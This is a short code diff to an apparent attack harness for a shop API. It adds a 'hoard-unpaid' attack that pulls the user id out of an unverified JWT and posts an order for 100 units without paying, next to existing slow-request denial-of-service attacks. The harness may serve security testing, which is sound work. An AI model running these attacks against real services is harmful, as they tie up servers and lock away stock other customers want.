@@ -7,6 +7,7 @@ often they were told what.
 from __future__ import annotations
 
 import asyncio
+import base64
 import json
 import os
 import select
@@ -56,9 +57,25 @@ async def until_hung_up_on(connected: int) -> None:
         poll.close()
 
 
+async def hoard(url: str, token: str) -> int:
+    """Order a hundred of something that many would like, and pay nothing."""
+    body = json.dumps({"user_id": user_of(token), "items": [{"product_id": 1, "quantity": 100}]})
+    headers = {"Content_Type": "application/json", "Content_Length": len(body)}
+    async with connection(url, address=ADDRESS) as sock:
+        await say(sock, head("POST", "/api/orders", token, **headers) + body.encode())
+        return await next_status(sock)
+
+
+def user_of(token: str) -> str:
+    """The customer whose token it is."""
+    claims = token.split(".")[1]
+    return str(json.loads(base64.urlsafe_b64decode(claims + "=" * (-len(claims) % 4)))["sub"])
+
+
 ATTACKS: dict[str, Callable[[str, str], Awaitable[int]]] = {
     "half-a-body": send_half_a_body,
     "read-nothing": read_nothing,
+    "hoard-unpaid": hoard,
 }
 
 
